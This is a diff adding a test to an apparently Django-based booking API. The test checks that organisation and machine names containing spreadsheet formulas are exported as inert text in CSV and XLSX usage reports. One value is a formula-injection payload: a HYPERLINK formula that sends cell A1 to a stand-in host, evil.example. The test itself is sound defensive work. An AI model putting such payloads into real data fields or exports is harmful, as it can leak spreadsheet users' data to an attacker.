@@ -552,6 +552,26 @@ def test_usage_report_for_staff_as_json_and_csv(frozen, client_for, member, staf
     assert client_for(staff).get("/api/v1/usage/", {"start": "x"}).status_code == 400
 
 
+def test_a_formula_in_a_name_comes_out_as_text_in_the_usage_exports(
+    frozen, client_for, member, staff, machine, booked
+):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
+    booked.organisation.name = formula
+    booked.organisation.save()
+    machine.name = "@SUM(1+1)"
+    machine.save()
+    query = {"start": iso(local(2026, 11, 23)), "end": iso(local(2026, 11, 30))}
+    csv_text = client_for(staff).get("/api/v1/usage.csv", {**query, "table": "organisations"})
+    assert csv_text.content.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")
+    machines = client_for(staff).get("/api/v1/usage.csv", query).content.decode("utf-8-sig")
+    assert "'@SUM(1+1)," in machines
+    book = load_workbook(io.BytesIO(client_for(staff).get("/api/v1/usage.xlsx", query).content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)  # no live formula anywhere
+    texts = [cell.value for cell in cells if cell.data_type == "s"]
+    assert any(formula in text for text in texts) and any("@SUM(1+1)" in t for t in texts)
+
+
 def test_reverse_names_exist():
     assert reverse("api:booking-list") == BOOKINGS
 
